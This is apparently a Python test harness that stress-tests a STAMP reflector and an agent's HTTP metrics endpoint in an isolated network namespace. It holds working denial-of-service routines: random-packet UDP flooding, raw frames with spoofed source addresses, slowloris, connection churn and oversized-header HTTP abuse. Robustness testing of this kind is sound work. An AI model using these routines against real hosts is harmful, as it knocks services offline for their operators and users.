"""The attacks of misura's campaign, each run inside the attacker's network
namespace by `campaign.py _attack NAME ...` and printing one JSON line.
Every loop is bounded in count and time."""

import json
import os
import random
import resource
import select
import socket
import struct
import time

STAMP_LEN = 44


def stamp_request(seq, ssid=0x4D53):
    """An unauthenticated STAMP Session-Sender packet (RFC 8762 §4.2.1)."""
    ntp = int((time.time() + 2208988800) * (1 << 32))
    return (
        struct.pack(">IQHH", seq, ntp, 0x8001, ssid) + bytes(STAMP_LEN - 16)
    )


def malformed(dst, port, seconds, source="", rate=0):
    """Random bytes of random lengths (0..1472) as fast as one socket sends,
    from `source` (another host than the real client: the reflector's rate
    limit is per address, so a flood from the client's own address would
    only measure that limit)."""
    rng = random.Random(13)
    pool = [rng.randbytes(rng.choice([0, 1, 3, 43, 44, 45, 111, 112, 200, 1472]))
            for _ in range(4096)]
    # A share that looks like STAMP with a hostile TLV area.
    for i in range(0, 4096, 8):
        pool[i] = stamp_request(i) + rng.randbytes(rng.randint(0, 200))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if source:
        s.bind((source, 0))
    s.setblocking(False)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    while time.monotonic() < end:
        if rate and sent > (time.monotonic() - start) * rate:
            time.sleep(0.001)
            continue
        for p in pool[:1024]:
            try:
                s.sendto(p, (dst, port))
                sent += 1
            except (BlockingIOError, ConnectionRefusedError, OSError):
                pass
        pool = pool[1024:] + pool[:1024]
    return {"sent": sent, "rate": sent / seconds}


def _csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def spoof(iface, dst_mac, dst_ip, port, sources, rate, seconds):
    """Valid STAMP requests from `sources` distinct spoofed IPv4 sources
    (10.0.0.0/8), one each, at `rate` per second, as raw frames."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    my_mac = s.getsockname()[4]
    dmac = bytes.fromhex(dst_mac.replace(":", ""))
    dip = socket.inet_aton(dst_ip)
    eth = dmac + my_mac + b"\x08\x00"
    payload = stamp_request(1)
    frames = []
    for i in range(sources):
        sip = struct.pack(">I", (10 << 24) | (i + 1))
        udp = struct.pack(">HHHH", 1024 + i % 60000, port, 8 + len(payload), 0) + payload
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, sip, dip)
        ip = ip[:10] + struct.pack(">H", _csum(ip)) + ip[12:]
        frames.append(eth + ip + udp)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    batch = max(1, rate // 1000)
    while sent < len(frames) and time.monotonic() < end:
        due = int((time.monotonic() - start) * rate)
        if sent >= due:
            time.sleep(batch / rate / 2)
            continue
        for f in frames[sent:min(due, sent + batch, len(frames))]:
            try:
                s.send(f)
            except OSError:
                pass
            sent += 1
    return {"sent": sent, "rate": sent / max(time.monotonic() - start, 1e-9)}


def _raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(max(soft, n + 64), hard)
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def slowloris(dst, port, conns, seconds, sources=""):
    """`conns` TCP connections that send one byte every 1.5 s and nothing
    useful, from the given source addresses (comma separated) in turn."""
    _raise_nofile(conns)
    srcs = [a for a in sources.split(",") if a]
    socks = []
    for i in range(conns):
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        c.setblocking(False)
        if srcs:
            c.bind((srcs[i % len(srcs)], 0))
        try:
            c.connect((dst, port))
        except BlockingIOError:
            pass
        except OSError:
            c.close()
            continue
        socks.append(c)
    opened = len(socks)
    end = time.monotonic() + seconds
    next_drip = time.monotonic() + 1.5
    while time.monotonic() < end:
        time.sleep(0.1)
        if time.monotonic() >= next_drip:
            next_drip += 1.5
            for c in socks:
                try:
                    c.send(b"\x00")
                except OSError:
                    pass
    alive = 0
    for c in socks:
        try:
            c.send(b"\x00")
            alive += 1
        except OSError:
            pass
        c.close()
    return {"opened": opened, "still_open": alive}


def churn(dst, port, conns, seconds):
    """`conns` idle TCP connections that never send a byte, each reopened
    as soon as the server closes it (issue 29, item 9)."""
    _raise_nofile(conns)

    def open_one():
        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            c.connect((dst, port))
        except OSError:
            c.close()
            return None
        c.setblocking(False)
        return c
    socks = [open_one() for _ in range(conns)]
    reopened = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i, c in enumerate(socks):
            closed = c is None
            if c is not None:
                try:
                    closed = c.recv(4096) == b""
                except BlockingIOError:
                    pass
                except OSError:
                    closed = True
            if closed:
                if c is not None:
                    c.close()
                socks[i] = open_one()
                reopened += 1
    for c in socks:
        if c is not None:
            c.close()
    return {"opened": conns, "reopened": reopened, "rate": reopened / seconds}


def _http(dst, port, raw, timeout=3.0):
    c = socket.create_connection((dst, port), timeout=timeout)
    c.sendall(raw)
    out = b""
    end = time.monotonic() + timeout
    try:
        while time.monotonic() < end:
            b = c.recv(65536)
            if not b:
                break
            out += b
    except (socket.timeout, ConnectionResetError):
        pass
    c.close()
    return out


def http_abuse(dst, port, seconds):
    """Against the agent's endpoint: a byte-dripping client and 300 idle
    connections held while scrapes run; HEAD, pipelining, a 100 KB head."""
    _raise_nofile(400)
    res = {}
    drip = socket.create_connection((dst, port), timeout=5)
    drip.setblocking(False)
    idle = []
    for _ in range(300):
        try:
            idle.append(socket.create_connection((dst, port), timeout=2))
        except OSError:
            pass
    times, ok = [], 0
    end = time.monotonic() + seconds
    i = 0
    while time.monotonic() < end and i < 1000:
        try:
            drip.send(b"G")
        except OSError:
            pass
        t = time.monotonic()
        r = _http(dst, port, b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        times.append(time.monotonic() - t)
        good = r.startswith(b"HTTP/1.1 200") and r.endswith(b"# EOF\n")
        ok += good
        if not good and "first_failure" not in res:
            res["first_failure"] = f"scrape {i}: {r[:60]!r}"
        i += 1
        time.sleep(0.2)
    for c in idle:
        c.close()
    drip.close()
    times.sort()
    res["scrapes"] = len(times)
    res["scrapes_ok"] = ok
    res["scrape_p50_ms"] = 1000 * times[len(times) // 2] if times else None
    res["scrape_max_ms"] = 1000 * times[-1] if times else None
    head = _http(dst, port, b"HEAD /metrics HTTP/1.1\r\nConnection: close\r\n\r\n")
    res["head_ok"] = head.startswith(b"HTTP/1.1 200") and head.endswith(b"\r\n\r\n")
    pipe = _http(dst, port, b"GET /healthz HTTP/1.1\r\n\r\n" * 2
                 + b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n")
    res["pipelined_answers"] = pipe.count(b"HTTP/1.1 200")
    big = _http(dst, port, b"GET /metrics HTTP/1.1\r\nX: " + b"a" * 100_000 + b"\r\n\r\n")
    res["big_head"] = big[:12].decode(errors="replace")
    return res


def replies(dst, port, count):
    """Requests of every length 0..`count` (STAMP-shaped, random tails):
    no reply may be longer than its request."""
    rng = random.Random(7)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.02)
    longer, answered = 0, 0
    for n in range(count):
        seq = 0x70000000 + n
        req = (stamp_request(seq) + rng.randbytes(2000))[: n % 1473]
        s.sendto(req, (dst, port))
        while True:
            try:
                r = s.recv(4096)
            except (socket.timeout, ConnectionRefusedError):
                break
            answered += 1
            if len(r) >= 28:
                # The reflector's copy of the Session-Sender Sequence Number.
                rseq = struct.unpack(">I", r[24:28])[0]
                if rseq - 0x70000000 in range(count):
                    sent_len = (rseq - 0x70000000) % 1473
                    if len(r) > sent_len:
                        longer += 1
    return {"sent": count, "answered": answered, "longer": longer}


ATTACKS = {
    "malformed": lambda a: malformed(a[0], int(a[1]), float(a[2]), a[3] if len(a) > 3 else "",
                                     int(a[4]) if len(a) > 4 else 0),
    "spoof": lambda a: spoof(a[0], a[1], a[2], int(a[3]), int(a[4]), int(a[5]), float(a[6])),
    "slowloris": lambda a: slowloris(a[0], int(a[1]), int(a[2]), float(a[3]), a[4] if len(a) > 4 else ""),
    "http": lambda a: http_abuse(a[0], int(a[1]), float(a[2])),
    "churn": lambda a: churn(a[0], int(a[1]), int(a[2]), float(a[3])),
    "replies": lambda a: replies(a[0], int(a[1]), int(a[2])),
}


def main(name, args):
    print(json.dumps(ATTACKS[name](args)), flush=True)
    os._exit(0)
